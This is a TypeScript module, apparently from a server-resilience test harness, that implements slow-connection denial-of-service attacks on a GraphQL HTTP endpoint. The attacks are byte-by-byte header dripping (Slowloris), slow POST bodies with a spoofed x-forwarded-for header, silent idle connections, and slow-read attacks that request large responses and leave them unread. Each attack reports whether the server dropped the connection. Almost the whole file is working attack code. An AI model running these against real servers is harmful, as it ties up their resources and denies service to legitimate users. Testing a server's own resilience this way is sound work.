import { setTimeout as sleep } from 'node:timers/promises';
import { largeRequest } from './queries.ts';
import type { Attack, Target } from './target.ts';

const HOLD_MS = 600_000;
const DRIP_MS = 500;

/** Sends a text byte by byte, as long as the connection lasts. */
async function drip(target: Target, attack: string, first: string, rest: string): Promise<void> {
  const socket = await target.connect();
  socket.resume();
  socket.write(first);
  for (const byte of rest) {
    if (socket.closed || target.signal.aborted) break;
    socket.write(byte);
    await sleep(DRIP_MS, undefined, { signal: target.signal }).catch(() => {});
  }
  target.told(attack, socket.closed ? 'closed' : 'open', '', '');
}

export const slowHeads: Attack = (target) =>
  drip(target, 'slow heads', 'POST /graphql HTTP/1.1\r\n', `host: ${target.host}\r\nx: ${'y'.repeat(1_000)}`);

export const slowBodies: Attack = (target) =>
  drip(
    target,
    'slow bodies',
    `POST /graphql HTTP/1.1\r\nhost: ${target.host}\r\nx-forwarded-for: ${target.source()}\r\ncontent-type: application/json\r\ncontent-length: 9000\r\n\r\n`,
    '{"query":"'.padEnd(2_000, ' '),
  );

/** A connection that sends nothing. */
export const silence: Attack = async (target) => {
  const socket = await target.connect();
  await target.untilClosed(socket, HOLD_MS);
  target.told('silence', socket.closed ? 'closed' : 'open', '', '');
};

/** Asks for as much as possible, and does not read it. */
export const unread: Attack = async (target) => {
  const socket = await target.connect();
  socket.pause();
  socket.write(largeRequest(target));
  await target.untilClosed(socket, HOLD_MS);
  target.told('unread', socket.closed ? 'closed' : 'open', '', '');
};

/** Reads a little of it at intervals. */
export const hardlyRead: Attack = async (target) => {
  const socket = await target.connect();
  socket.pause();
  socket.write(largeRequest(target).repeat(3));
  while (!socket.closed && !target.signal.aborted) {
    socket.read(1_024);
    await sleep(DRIP_MS, undefined, { signal: target.signal }).catch(() => {});
  }
  target.told('hardly read', socket.closed ? 'closed' : 'open', '', '');
};
